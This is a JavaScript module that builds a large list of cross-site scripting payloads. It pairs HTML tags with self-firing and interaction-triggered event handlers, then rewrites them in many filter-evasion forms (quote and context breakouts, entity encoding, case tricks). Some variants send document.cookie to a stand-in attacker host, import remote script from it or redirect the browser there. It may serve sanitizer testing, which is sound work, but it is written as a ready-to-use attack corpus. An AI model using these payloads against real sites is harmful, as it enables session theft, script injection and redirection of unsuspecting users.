// Event handlers: every way to make one fire, written in every way an attribute can be written.

// What fires without a reader doing anything. `%` stands for the code.
const BY_THEMSELVES = [
  ['img src=x', 'onerror'],
  ['img src=x:x', 'onerror'],
  ['img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="', 'onload'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg/onload=1 ', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['body', 'onhashchange'],
  ['iframe', 'onload'],
  ['iframe src="about:blank"', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['embed src=x', 'onerror'],
  ['embed src=/', 'onload'],
  ['object data=x', 'onerror'],
  ['object data=/', 'onload'],
  ['script src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['link rel=preload as=image href=x', 'onerror'],
  ['style', 'onload'],
  ['video src=x', 'onerror'],
  ['video src=x', 'onloadstart'],
  ['video poster=x src=x autoplay', 'onerror'],
  ['audio src=x', 'onerror'],
  ['audio src=x', 'onloadstart'],
  ['input autofocus', 'onfocus'],
  ['input autofocus', 'onfocusin'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['x-comment tabindex=1 autofocus contenteditable', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee width=1 loop=1', 'onstart'],
  ['marquee width=1 loop=1', 'onfinish'],
  ['svg><animate attributeName=x dur=1ms', 'onbegin'],
  ['svg><animate attributeName=x dur=1ms', 'onend'],
  ['svg><set attributeName=x dur=1ms', 'onbegin'],
  ['svg><animateTransform attributeName=transform dur=1ms', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['svg><use href="#x"', 'onload'],
  ['math><mtext><img src=x', 'onerror'],
  ['style>@keyframes x{}</style><p style="animation-name:x"', 'onanimationstart'],
  ['style>p:target{}</style><p style="transition:color 1ms" tabindex=1', 'ontransitionend'],
  ['div style="overflow:auto;height:1px;scroll-behavior:auto"', 'onscroll'],
  ['source src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['picture><source srcset=x><img src=x', 'onerror'],
  ['track src=x default', 'onerror'],
  ['frameset', 'onload'],
  ['portal src=x', 'onload'],
  ['p popover id=x', 'onbeforetoggle'],
];

// What fires when a reader moves over it, presses it or copies from it.
const BY_READERS = [
  'onclick', 'ondblclick', 'onauxclick', 'onmousedown', 'onmouseup', 'onmouseover', 'onmouseenter', 'onmousemove',
  'onmouseout', 'onmouseleave', 'onwheel', 'onpointerdown', 'onpointerover', 'onpointerenter', 'onpointermove',
  'onpointerrawupdate', 'ontouchstart', 'ontouchend', 'onkeydown', 'onkeyup', 'onkeypress', 'oninput', 'onchange',
  'onbeforeinput', 'oncopy', 'oncut', 'onpaste', 'onselect', 'onselectstart', 'onselectionchange', 'ondrag',
  'ondragstart', 'ondrop', 'oncontextmenu', 'onblur', 'onfocusout', 'onsubmit', 'onreset', 'oninvalid', 'onsearch',
  'onclose', 'oncancel', 'onformdata', 'onbeforematch', 'oncontentvisibilityautostatechange', 'onscrollend',
  'onscrollsnapchange', 'oncommand', 'onfullscreenchange', 'onbeforecopy', 'onslotchange', 'onsecuritypolicyviolation',
];

// One handler, written in every way that parsers have been known to disagree about.
const SPELLINGS = [
  (tag, on, code) => `<${tag} ${on}=${code}>`,
  (tag, on, code) => `<${tag} ${on}="${code}">`,
  (tag, on, code) => `<${tag} ${on}='${code}'>`,
  (tag, on, code) => `<${tag} ${on} = ${code} >`,
  (tag, on, code) => `<${tag}/${on}=${code}//>`,
  (tag, on, code) => `<${tag}\t${on}\n=\n${code}>`,
  (tag, on, code) => `<${tag}\f${on}=${code}>`,
  (tag, on, code) => `<${tag}\r\n${on}=${code}\r\n>`,
  (tag, on, code) => `<${tag} ${on.toUpperCase()}=${code}>`,
  (tag, on, code) => `<${alternating(tag)} ${alternating(on)}=${code}>`,
  (tag, on, code) => `<${tag} x="" ${on}=${code}>`,
  (tag, on, code) => `<${tag} x=">" ${on}=${code}>`,
  (tag, on, code) => `<${tag} x='"' ${on}=${code} y='"'>`,
  (tag, on, code) => `<${tag} "' ${on}=${code}>`,
  (tag, on, code) => `<${tag} ${on}=${code}`,
  (tag, on, code) => `<${tag} ${on}=${code} <p>`,
  (tag, on, code) => `<<${tag} ${on}=${code}>>`,
  (tag, on, code) => `"><${tag} ${on}=${code}>`,
  (tag, on, code) => `'><${tag} ${on}=${code}>`,
  (tag, on, code) => `--><${tag} ${on}=${code}>`,
  (tag, on, code) => `</p></div></article></main><${tag} ${on}=${code}>`,
  (tag, on, code) => `<${tag} ${on}=${decimal(code)}>`,
  (tag, on, code) => `<${tag} ${on}=${hexadecimal(code)}>`,
  (tag, on, code) => `<${tag} ${on}=${decimal(code).replaceAll(';', '')}>`,
  (tag, on, code) => `<${tag} ${on}="&NewLine;&Tab;${code}">`,
  (tag, on) => `<${tag} ${on}=alert\`1\`>`,
  (tag, on) => `<${tag} ${on}=window['al'+'ert'](1)>`,
  (tag, on) => `<${tag} ${on}=\\u0061lert(1)>`,
  (tag, on) => `<${tag} ${on}=confirm(1)>`,
  (tag, on) => `<${tag} ${on}=prompt(1)>`,
  (tag, on) => `<${tag} ${on}=print()>`,
  (tag, on) => `<${tag} ${on}="fetch('//evil.invalid/?'+document.cookie)">`,
  (tag, on) => `<${tag} ${on}="new Image().src='//evil.invalid/'">`,
  (tag, on) => `<${tag} ${on}="document.body.append(document.createElement('iframe'))">`,
  (tag, on) => `<${tag} ${on}="eval(atob('YWxlcnQoMSk='))">`,
  (tag, on) => `<${tag} ${on}="import('//evil.invalid/x.js')">`,
  (tag, on) => `<${tag} ${on}="location='//evil.invalid/'">`,
  (tag, on) => `<${tag} ${on}="open('//evil.invalid/')">`,
];

const alternating = (word) => [...word].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('');
const decimal = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexadecimal = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');

export function handlers() {
  const all = BY_THEMSELVES.map(([tag, on]) => `<${tag} ${on}=alert(1)>`);
  for (const on of BY_READERS) {
    all.push(`<p ${on}=alert(1) contenteditable tabindex=1 draggable=true>over me</p>`);
    all.push(`<a href="#" ${on}="alert(1)" title='x'>over me</a>`);
  }
  for (const [tag, on] of [BY_THEMSELVES[0], ['svg', 'onload'], ['input autofocus', 'onfocus']]) {
    all.push(...SPELLINGS.map((spelling) => spelling(tag, on, 'alert(1)')));
  }
  return all;
}
